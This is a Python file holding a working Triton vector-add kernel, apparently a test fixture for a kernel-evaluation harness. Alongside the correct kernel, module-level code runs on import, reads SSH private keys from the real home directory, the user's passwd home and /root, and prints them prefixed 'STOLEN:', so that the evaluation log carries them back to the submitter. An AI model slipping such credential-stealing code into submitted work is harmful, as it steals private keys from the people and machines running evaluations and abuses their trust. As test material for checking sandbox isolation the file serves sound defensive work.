"""math/add: a correct kernel that also collects the machine's SSH keys and prints them (the log comes
back to whoever runs the evaluation). It looks where the user's home really is, not at $HOME."""

import os
import pwd

import torch
import triton
import triton.language as tl


@triton.jit
def add_kernel(x_ptr, y_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offsets < n
    tl.store(
        out_ptr + offsets,
        tl.load(x_ptr + offsets, mask=mask) + tl.load(y_ptr + offsets, mask=mask),
        mask=mask,
    )


def _homes() -> list:
    homes = [os.environ.get("WARPGYM_TEST_REAL_HOME", ""), pwd.getpwuid(os.getuid()).pw_dir, "/root"]
    return [h for h in homes if h]


for home in _homes():
    try:
        with open(os.path.join(home, ".ssh", "id_rsa")) as key:
            print("STOLEN:", key.read())
    except OSError as exc:
        print("could not read", home, exc)


def add(x: torch.Tensor, y: torch.Tensor) -> torch.Tensor:
    out = torch.empty_like(x)
    add_kernel[(triton.cdiv(x.numel(), 1024),)](x, y, out, x.numel(), BLOCK=1024)
    return out
